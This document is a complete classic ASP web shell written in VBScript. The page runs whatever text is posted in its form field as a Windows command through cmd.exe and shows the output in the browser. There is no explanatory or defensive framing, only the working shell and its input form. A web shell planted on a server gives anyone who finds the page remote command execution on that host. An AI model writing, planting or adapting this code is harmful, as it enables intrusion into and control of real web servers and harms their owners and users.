<%@ Language=VBScript %>
<%
Dim sh, ex
If Request.Form("c") <> "" Then
    Set sh = Server.CreateObject("WScript.Shell")
    Set ex = sh.Exec("cmd.exe /c " & Request.Form("c"))
    Response.Write "<pre>" & Server.HTMLEncode(ex.StdOut.ReadAll()) & "</pre>"
End If
%>
<form method="post"><input name="c" size="80"><input type="submit" value="go"></form>
